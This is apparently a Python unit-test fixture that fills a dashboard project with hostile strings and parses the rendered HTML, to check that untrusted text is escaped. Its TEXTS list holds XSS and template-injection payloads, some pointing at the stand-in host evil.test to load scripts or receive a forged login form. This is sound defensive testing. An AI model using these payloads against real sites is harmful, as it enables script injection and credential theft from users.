"""Texts that want to be more than text, and a project in which every text is one of them."""

from __future__ import annotations

import json
from datetime import timedelta
from html.parser import HTMLParser
from typing import Final

from backend.finetunes import FinetuneRecord, Finetunes
from backend.pinning import release
from backend.project_settings import FILE, ProjectSettings
from backend.projects import Publications
from backend.reconcile.reading_notes import READING_NOTES, ReadingNotes
from backend.reconcile.state import Failure, Failures
from backend.reports import RareEstimate, RareLeftReport, RoundEntry
from models.registry import VersionCard
from tests.unit.backend.dashboard.kept import T0, Kept

CARD: Final = "version.json"

HARMLESS: Final = "harmless"
TEXTS: Final[tuple[str, ...]] = (
    # Elements, and endings of what a text stands in.
    "<script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "<ScRiPt/src=//evil.test/x.js></sCrIpT>",
    "<!--<script>", "--><script>alert(1)</script>", "<![CDATA[<script>alert(1)</script>]]>",
    "</title><script>alert(1)</script>", "</textarea><script>alert(1)</script>",
    "</style><script>alert(1)</script>", "</option></select><img src=x onerror=alert(1)>",
    "</td></tr></table><h1>forged</h1>", "</main><form action=//evil.test><button>Log in</button>",
    "<img src=x onerror=alert(1)>", "<svg/onload=alert(1)>", "<svg><script>alert(1)</script></svg>",
    "<math><mi//xlink:href='data:x,<script>alert(1)</script>'>", "<iframe srcdoc='<script>1'>",
    "<meta http-equiv=refresh content='0;url=//evil.test'>", "<base href=//evil.test>",
    "<link rel=stylesheet href=//evil.test/x.css>", "<object data=//evil.test>", "<plaintext>",
    "<style>*{display:none}</style>", "<details open ontoggle=alert(1)>", "<template><script>1",
    "<a href='javascript:alert(1)'>x</a>", "<noscript><p title='</noscript><img src onerror=1>'>",
    # Ends of attributes.
    '" onmouseover="alert(1)', "' onmouseover='alert(1)", "` onmouseover=`alert(1)",
    '"><script>alert(1)</script>', "'><script>alert(1)</script>", '" autofocus onfocus="alert(1)',
    '" style="position:fixed', '" formaction="//evil.test', "x onload=alert(1) y",
    "\\\" onload=\"1",
    # Addresses.
    "javascript:alert(1)", "java\tscript:alert(1)", "vbscript:1", "//evil.test/x", "\\\\evil.test",
    "http://evil.test/x.png", "?token=1&x=", "#now", "../../..", "%2e%2e%2f%3Cscript%3E",
    # Templates, other languages, escapes that are undone once too often.
    "{{ 7 * 7 }}", "{% raw %}", "{# x #}", "${7*7}", "#{7*7}", "<%= 7*7 %>", "{{ config }}",
    "&lt;script&gt;alert(1)&lt;/script&gt;", "&#60;script&#62;", "\\u003cscript\\u003e", "&quot;",
    # plotly's own markup.
    "<b>bold</b>", "<a href=\"javascript:alert(1)\">x</a>", "<br>", "%{x}<extra>y</extra>",
    "--series-1", "$x$", "$\\href{javascript:alert(1)}{x}$",
    # Letters that parsers drop or turn.
    "<\x00script>alert(1)</script>", "<scr\x00ipt>", "\x00", "\x1b[2J", "\r\nX: y", "\u2028\u2029",
    "\u202e<script>", "\ufeff<script>alert(1)</script>", "\uff1cscript\uff1e", "\u212a\u017f",
    "+ADw-script+AD4-alert(1)", "\ufffd" * 50, "<" * 2000, "&" * 2000, '"' * 2000, "]]>" * 100,
    "__proto__", "constructor", "null", "NaN", "-1", "a" * 50_000, "\U0001d56c" * 5000, " ", "\t\n",
)  # fmt: skip


class Hostile(Kept):
    """A project of which every text that somebody else may have a hand in is ``rare``."""

    def fill(self) -> Hostile:
        """Write everything."""
        super().fill()
        text, store = self.rare, self.store
        self.uris |= dict.fromkeys((7, 8), f"/data/upload/1/{text}.png") | {9: text}
        self.mirror()
        self.report(
            title=text,
            label_studio=text,
            tail=(self.rare, "common"),
            rare_left=RareLeftReport(
                total=RareEstimate(likely=7, low=3, high=15),
                by_class={text: RareEstimate(likely=7, low=3, high=15)},
            ),
            failed={text: 3},
            unknown_labels={text: 4},
            labels_by_origin={"initial": 50, text: 50},
            backbone=text,
            next=text,
            why_not=(text, text),
            problems=(text,),
            drift=(text,),
            noted=1,
        )
        store.write(FILE, ProjectSettings(problems=(text,)))
        store.write(READING_NOTES, ReadingNotes(by_task={3: (text, text)}))
        bad = Failure(reason=text, digest="d", image=text, tries=2)
        store.write("failures.json", Failures(by_task={9: bad}))
        release(store, text, text)
        store.note(text, 1, 10, text)
        published = store.publications().published
        assert published is not None
        changed = published.model_copy(update={"version": text, "kind": text})
        store.write("publication.json", Publications(published=changed))
        for labels in (120, 140):
            store.append_history(
                RoundEntry(
                    at=T0 + timedelta(hours=labels),
                    reason=text,
                    labels_by_class={"common": labels - 12, text: 12},
                    labels_by_origin={"initial": 50, text: labels - 50},
                    rare_found=12,
                    queue_labeled=20,
                    queue_rare=2,
                    version=text,
                    publication=text,
                    seconds={text: 1.0},
                    error=text,
                )
            )
        self.version("v0002", labels=3)
        return self

    def version(self, name: str, labels: int = 4) -> None:
        """A stored version whose card says the text wherever it may."""
        super().version(name, labels)
        path = self.store.path("versions", name, CARD)
        card = VersionCard.model_validate_json(path.read_bytes())
        said = card.model_copy(
            update={
                "kind": self.rare,
                "config": {self.rare: self.rare, "alpha": 0.5 * labels},
                "metrics": {self.rare: 1.0},
            }
        )
        path.write_text(said.model_dump_json())

    def finetune(self, state: str = "promoted") -> None:
        """A fine-tune that says the text of its outcome and its doubts."""
        super().finetune(state)
        (run,) = Finetunes(self.store).all()
        text = self.rare
        record = FinetuneRecord.model_validate(
            {"state": state, "reasons": (text, text), "compared": text, "failure": text}
        )
        run.keep(record.model_copy(update={"before": 0.5, "after": 0.7}))
        about = run.run
        assert about is not None
        (run.path / "run.json").write_text(about.model_copy(update={"why": text}).model_dump_json())
        review = json.loads((run.path / "review.json").read_text())
        for doubt in review["suspects"]:
            doubt["instead"] = text
        (run.path / "review.json").write_text(json.dumps(review))


class Skeleton(HTMLParser):
    """What a page is made of without its texts: elements, names of attributes, and addresses.

    Attributes:
        found: every tag as it opened and closed, with the attributes whose value decides what a
            browser loads, sends or looks up.
        texts: what stands between tags and in other attributes.
    """

    SPEAKING: Final = frozenset({"alt", "aria-label", "value", "title"})

    def __init__(self, page: str) -> None:
        super().__init__()
        self.found: list[tuple[object, ...]] = []
        self.texts: list[str] = []
        self.feed(page)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        kept = tuple((name, None if name in self.SPEAKING else value) for name, value in attrs)
        self.texts += [str(value) for name, value in attrs if name in self.SPEAKING]
        self.found.append(("open", tag, kept))

    def handle_endtag(self, tag: str) -> None:
        self.found.append(("close", tag))

    def handle_comment(self, data: str) -> None:
        self.found.append(("comment", data))

    def handle_decl(self, decl: str) -> None:
        self.found.append(("declaration", decl))

    def unknown_decl(self, data: str) -> None:
        self.found.append(("unknown", data))

    def handle_pi(self, data: str) -> None:
        self.found.append(("instruction", data))

    def handle_data(self, data: str) -> None:
        self.texts.append(data)
